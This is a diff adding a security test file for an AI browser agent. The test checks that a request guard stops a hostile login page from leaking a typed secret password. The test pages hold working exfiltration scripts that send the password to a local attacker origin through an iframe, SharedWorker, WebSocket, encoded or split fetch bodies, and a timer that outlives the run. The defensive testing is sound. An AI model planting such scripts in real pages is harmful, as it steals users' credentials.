@@ -1,0 +1,185 @@
+/**
+ * The request guard closes channels, not spellings, in real headless Chromium: once the run has typed
+ * the password, a page on the allowed origin cannot get it to another origin through a cross-site
+ * frame (its own renderer), a SharedWorker, a WebSocket, an encoding the matcher does not know, or a
+ * timer that fires after the run has ended. The allowed site is a small server of its own (pages
+ * built per channel); `other` is a second site on another origin that serves the frame and accepts
+ * WebSockets, and the attacker origin logs every request it receives.
+ */
+import { createHash } from "node:crypto"
+import { createServer, type Server } from "node:http"
+import type { AddressInfo } from "node:net"
+import { type BrowserDriver, decodeAgentTask, LanguageModel, type Store, ToolRegistry } from "@sextant/core"
+import { type AttackerOrigin, startAttackerOrigin } from "@sextant/fixture-site"
+import { make as makeOpenAi } from "@sextant/openai"
+import { makeLlmStepPolicy } from "@sextant/planner"
+import { layerMemoryStore, type OpenAiServer, Reply, startOpenAiServer } from "@sextant/testing"
+import { browserTools, compoundTools } from "@sextant/tools"
+import { layer as browserLayer } from "@sextant/webdriverio"
+import { Effect, Layer, ManagedRuntime } from "effect"
+import { afterAll, beforeAll, expect, it } from "vitest"
+import { runAgent } from "../src/index.ts"
+
+const PASSWORD = "open sesame+42"
+let attacker: AttackerOrigin
+let model: OpenAiServer
+let runtime: ManagedRuntime.ManagedRuntime<BrowserDriver | Store | LanguageModel, unknown>
+let turn = 0
+let site: Server
+let other: Server
+let siteUrl = ""
+let otherPort = 0
+const wsFrames: Array<string> = []
+const listen = (server: Server) =>
+  new Promise<number>((ok) => server.listen(0, "127.0.0.1", () => ok((server.address() as AddressInfo).port)))
+
+// Each page: a same-origin login form; `SEND(pw)` runs once the password field holds the whole value.
+const SENDERS: Record<string, string> = {
+  // A frame on another site (localhost vs 127.0.0.1) runs in its own renderer: its fetch is not paused.
+  iframe: `document.body.insertAdjacentHTML('beforeend', '<iframe id=f src="http://localhost:' + OTHER + '/frame"></iframe>')
+    const SEND = (pw) => document.getElementById('f').contentWindow.postMessage(pw, '*')`,
+  lateSharedWorker: `const SEND = (pw) => { const w = new SharedWorker('/shared.js', 'late'); w.port.postMessage(pw) }`,
+  sharedWorker: `const w = new SharedWorker('/shared.js'); const SEND = (pw) => w.port.postMessage(pw)`,
+  websocket: `const SEND = (pw) => { const ws = new WebSocket('ws://127.0.0.1:' + OTHER + '/ws'); ws.onopen = () => ws.send(pw) }`,
+  encoded: `const SEND = (pw) => {
+    fetch(A + '/u', { method: 'POST', mode: 'no-cors', body: '{"p":"' + [...pw].map(c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') + '"}' })
+    fetch(A + '/b64', { method: 'POST', mode: 'no-cors', body: btoa('x' + pw) })
+    fetch(A + '/a', { method: 'POST', mode: 'no-cors', body: pw.slice(0, 7) }); fetch(A + '/b', { method: 'POST', mode: 'no-cors', body: pw.slice(7) }) }`,
+  // Plain text every 500 ms after typing, on past the end of the run (which releases the guard).
+  // Harmless: an image from another origin, loaded after the password is typed, carrying nothing.
+  thirdParty: `const SEND = () => { new Image().src = A + '/pixel.gif' }`,
+  afterRun: `const SEND = (pw) => setInterval(() => fetch(A + '/late?p=' + encodeURIComponent(pw), { mode: 'no-cors' }), 500)`,
+}
+const page = (
+  kind: string,
+) => `<!doctype html><html><head><meta charset="utf-8"><title>Sign in</title></head><body><h1>Sign in</h1>
+<form method="post" action="/login"><label for="email">Email</label><input type="email" id="email" name="email">
+<label for="password">Password</label><input type="password" id="password" name="password" autocomplete="current-password">
+<button type="submit">Sign in</button></form>
+<script>const A = ${JSON.stringify(attacker.url)}, OTHER = ${otherPort}
+${SENDERS[kind]}
+let sent = false
+setInterval(() => { const pw = document.getElementById('password').value; if (!sent && pw.length >= 14) { sent = true; SEND(pw) } }, 50)
+</script></body></html>`
+
+beforeAll(async () => {
+  attacker = await startAttackerOrigin()
+  other = createServer((_, res) => {
+    res.writeHead(200, { "content-type": "text/html" })
+    res.end(
+      `<script>addEventListener('message', (e) => fetch(${JSON.stringify(attacker.url)} + '/frame?p=' + encodeURIComponent(e.data), { mode: 'no-cors' }))</script>`,
+    )
+  })
+  other.on("upgrade", (req, socket) => {
+    const accept = createHash("sha1")
+      .update(`${req.headers["sec-websocket-key"]}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
+      .digest("base64")
+    socket.write(
+      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
+    )
+    socket.on("data", (b: Buffer) =>
+      wsFrames.push(
+        Buffer.from(b.subarray(6, 6 + (b[1]! & 0x7f)).map((x, i) => x ^ b[2 + (i % 4)]!)).toString(),
+      ),
+    )
+  })
+  otherPort = await listen(other)
+  site = createServer((req, res) => {
+    if (req.url === "/shared.js") {
+      res.writeHead(200, { "content-type": "text/javascript" })
+      res.end(
+        `onconnect = (e) => { e.ports[0].onmessage = (m) => fetch(${JSON.stringify(attacker.url)} + '/shared?p=' + encodeURIComponent(m.data), { mode: 'no-cors' }) }`,
+      )
+      return
+    }
+    res.writeHead(200, { "content-type": "text/html" })
+    res.end(page(new URL(req.url ?? "/", "http://x").searchParams.get("k") ?? ""))
+  })
+  siteUrl = `http://127.0.0.1:${await listen(site)}`
+  const script = [
+    { name: "fill", args: { target: "#email", value: "a@example.com" } },
+    { name: "fill", args: { target: "#password", value: "<secret:password>" } },
+    { name: "extract", args: { target: "h1" } },
+  ]
+  model = await startOpenAiServer({
+    replies: (request) =>
+      (request.responseFormat as { json_schema?: { name?: string } } | undefined)?.json_schema?.name ===
+      "summary"
+        ? Reply.json({ taskComplete: true, summary: "s", keyFindings: [], nextSuggestions: [] })
+        : Reply.json({ tool_calls: [script[turn++] ?? { name: "stop", args: {} }] }),
+  })
+  const language = Layer.effect(
+    LanguageModel,
+    makeOpenAi({ baseURL: model.baseURL, apiKey: "k", model: "m", maxRetries: 0 }),
+  )
+  runtime = ManagedRuntime.make(Layer.mergeAll(browserLayer({}), layerMemoryStore, language))
+}, 60_000)
+afterAll(async () => {
+  await runtime?.dispose()
+  await model?.close()
+  await attacker?.close()
+  site?.close()
+  other?.close()
+})
+
+const signIn = async (kind: string, wait = 1_000) => {
+  turn = 0
+  const since = attacker.requests.length
+  const task = Effect.runSync(
+    decodeAgentTask({
+      goal: "sign in",
+      startUrl: `${siteUrl}/login?k=${kind}`,
+      inputs: { email: "a@example.com", password: PASSWORD },
+      secretInputs: ["password"],
+      constraints: { allowFormSubmission: true, maxSteps: 6, stepTimeoutMs: 8_000, maxDurationMs: 30_000 },
+    }),
+  )
+  const result = await runtime.runPromise(
+    Effect.gen(function* () {
+      const registry = yield* ToolRegistry.make([...browserTools, ...compoundTools])
+      const policy = yield* makeLlmStepPolicy({ registry })
+      return yield* runAgent(task, policy, { tools: registry, noOpBackoffMs: 5, screenshots: "never" })
+    }),
+  )
+  await new Promise((resolve) => setTimeout(resolve, wait))
+  return {
+    result,
+    sent: attacker.requests.slice(since).map((request) => `${request.method} ${request.url} ${request.body}`),
+  }
+}
+
+it("a cross-site iframe the page posts the password to does not send it", async () => {
+  expect((await signIn("iframe")).sent).toEqual([])
+}, 60_000)
+
+it("a SharedWorker the page posts the password to does not send it", async () => {
+  expect((await signIn("sharedWorker")).sent).toEqual([])
+}, 60_000)
+
+it("a SharedWorker started after the password is typed does not send it", async () => {
+  expect((await signIn("lateSharedWorker")).sent).toEqual([])
+}, 60_000)
+
+it("a WebSocket to another origin does not carry the password", async () => {
+  await signIn("websocket")
+  expect(wsFrames).toEqual([])
+}, 60_000)
+
+it("encoded and split spellings of the password do not leave", async () => {
+  expect((await signIn("encoded")).sent).toEqual([])
+}, 60_000)
+
+it("the page cannot send the password once the run has ended", async () => {
+  expect((await signIn("afterRun", 4_000)).sent).toEqual([])
+}, 60_000)
+
+it("after typing, a request to another origin without the secret is blocked and is no guardrail event", async () => {
+  const { result, sent } = await signIn("thirdParty")
+  expect(sent).toEqual([])
+  // No guardrail event: the run went on to its next step (a secret-origin event ends it at once).
+  expect(result.observations.map((observation) => [observation.tool, observation.ok])).toEqual([
+    ["fill", true],
+    ["fill", true],
+    ["extract", true],
+  ])
+}, 60_000)
